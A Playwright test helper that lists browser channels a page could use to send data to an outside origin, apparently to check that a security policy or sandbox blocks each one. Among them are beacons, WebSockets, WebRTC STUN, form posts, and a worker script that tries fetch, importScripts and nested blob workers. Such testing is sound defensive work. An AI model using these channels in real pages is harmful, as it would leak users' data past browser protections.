import type { Page } from '@playwright/test';

interface Target {
  readonly origin: string;
  readonly stun: string;
}

/**
 * Ways by which a page could send data away. Each runs in the page and swallows its own refusal: only what arrives
 * at the target counts.
 */
export const attacks: Readonly<Record<string, (target: Target) => Promise<void> | void>> = {
  fetch: async ({ origin }) => {
    await fetch(`${origin}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
  },
  request: ({ origin }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${origin}/xhr`);
    request.send();
  },
  image: ({ origin }) => {
    new Image().src = `${origin}/image`;
  },
  beacon: ({ origin }) => {
    navigator.sendBeacon(`${origin}/beacon`, 'rows');
  },
  socket: ({ origin }) => {
    new WebSocket(`${origin.replace('http', 'ws')}/socket`);
  },
  events: ({ origin }) => {
    new EventSource(`${origin}/events`);
  },
  style: ({ origin }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${origin}/style`;
    document.head.append(link);
  },
  preconnect: ({ origin }) => {
    for (const rel of ['preconnect', 'prefetch', 'dns-prefetch']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `${origin}/${rel}`;
      document.head.append(link);
    }
  },
  script: ({ origin }) => {
    const script = document.createElement('script');
    script.src = `${origin}/script`;
    document.head.append(script);
  },
  frame: ({ origin }) => {
    const frame = document.createElement('iframe');
    frame.src = `${origin}/frame`;
    document.body.append(frame);
  },
  form: ({ origin }) => {
    const frame = document.createElement('iframe');
    frame.name = 'away';
    const form = document.createElement('form');
    form.action = `${origin}/form`;
    form.method = 'post';
    form.target = 'away';
    document.body.append(frame, form);
    form.submit();
  },
  rtc: async ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    connection.createDataChannel('rows');
    await connection.setLocalDescription(await connection.createOffer());
  },
  window: ({ origin }) => {
    window.open(`${origin}/window`);
  },
  worker: ({ origin }) => {
    // A script of the page's own origin, as if somebody had slipped it into the build.
    const worker = new Worker('attack-worker.js');
    worker.postMessage(origin);
  },
  blobWorker: ({ origin }) => {
    const code = new Blob([`fetch('${origin}/blob-worker', { mode: 'no-cors' })`], {
      type: 'text/javascript',
    });
    new Worker(URL.createObjectURL(code));
  },
  navigation: ({ origin }) => {
    location.href = `${origin}/navigation`;
  },
};

/** What `attack-worker.js` holds. */
export const attackWorker = `
onmessage = ({ data: origin }) => {
  fetch(origin + '/worker-fetch', { mode: 'no-cors' }).catch(() => {});
  try { importScripts(origin + '/worker-script'); } catch {}
  try { new WebSocket(origin.replace('http', 'ws') + '/worker-socket'); } catch {}
  try {
    const code = new Blob(["fetch('" + origin + "/nested', { mode: 'no-cors' })"], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(code));
  } catch {}
};
`;

/** Runs one attack and leaves it time to arrive. Trusted Types and policies may throw: that is a refusal. */
export async function attempt(page: Page, name: string, target: Target): Promise<void> {
  const attack = attacks[name];
  if (!attack) throw new Error(`No attack ${name}`);
  const { origin, stun } = target;
  await page.evaluate(attack, { origin, stun }).catch(() => undefined);
  await page.waitForTimeout(600);
}
